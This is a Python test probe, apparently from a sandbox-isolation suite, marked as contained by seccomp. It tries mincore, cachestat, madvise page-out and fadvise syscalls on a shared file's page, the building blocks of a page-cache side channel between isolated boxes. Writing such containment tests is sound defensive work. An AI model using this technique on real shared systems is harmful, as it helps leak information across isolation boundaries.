# attack: asks which pages of a file are in memory, and puts them out of it, for another box to ask
# full: contained
# reduced: contained
# stopped-by: seccomp
import ctypes
import mmap
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


MINCORE = {"x86_64": 27, "aarch64": 232}
MADVISE = {"x86_64": 28, "aarch64": 233}
FADVISE = {"x86_64": 221, "aarch64": 223}
CACHESTAT = {"x86_64": 451, "aarch64": 451}
COLD, PAGEOUT, UNNEEDED = 20, 21, 4


def attack():
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    descriptor = os.open(os.__file__, os.O_RDONLY)
    page = libc.mmap(None, mmap.PAGESIZE, 1, 1, descriptor, 0)
    found = (ctypes.c_ulong * 8)()
    ways = {
        "mincore": lambda: syscall(MINCORE, page, mmap.PAGESIZE, found),
        "cachestat": lambda: syscall(CACHESTAT, descriptor, (ctypes.c_ulong * 2)(0, 4096), found, 0),
        "pageout": lambda: syscall(MADVISE, page, mmap.PAGESIZE, PAGEOUT),
        "cold": lambda: syscall(MADVISE, page, mmap.PAGESIZE, COLD),
        "fadvise": lambda: syscall(FADVISE, descriptor, 0, 0, UNNEEDED),
    }
    for what, way in ways.items():
        try:
            way()
        except OSError as error:
            last = error
        else:
            return f"through: {what}"
    raise last
